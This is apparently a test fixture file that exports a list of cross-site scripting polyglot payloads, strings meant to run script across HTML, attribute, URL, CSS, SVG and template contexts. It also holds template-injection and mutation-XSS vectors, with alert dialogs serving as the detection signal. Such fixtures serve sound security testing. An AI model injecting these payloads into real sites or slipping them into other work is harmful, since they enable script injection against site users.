// Texts that become script in more than one context at once: HTML, attributes, addresses, styles, script, comments, SVG, templates.

/** Each would call `alert`, `confirm` or `prompt`, which a page under test reports as a dialog. */
export const polyglots: readonly string[] = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  '">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>',
  "javascript://'/</title></style></textarea></script>--><p\" onclick=alert()//>*/alert()/*",
  "javascript:`//\"//\\\"//</title></textarea></style></noscript></noembed></script></template>&lt;svg/onload='/*--><html */ onmouseover=alert()//'>`",
  "'\"--></style></script><svg onload=alert(1)><details open ontoggle=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe><object data=javascript:alert(1)><embed src=javascript:alert(1)>',
  '<a href="javascript&colon;alert(1)" autofocus tabindex=1 onfocus=alert(1)>x</a><input autofocus onfocus=alert(1)>',
  "<style>@import 'javascript:alert(1)';*{background:url(javascript:alert(1))}</style><link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>",
  '<base href=//127.0.0.1:9/><meta http-equiv=refresh content="0;url=javascript:alert(1)"><img src=//127.0.0.1:9/x>',
  "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>#{alert(1)}[[${alert(1)}]]",
  "\u202e<script>alert(1)</script>\u2066\u0000\u200b\ufeff",
  `${"<div>".repeat(200)}<img src=x onerror=alert(1)>`,
  "W".repeat(600),
];
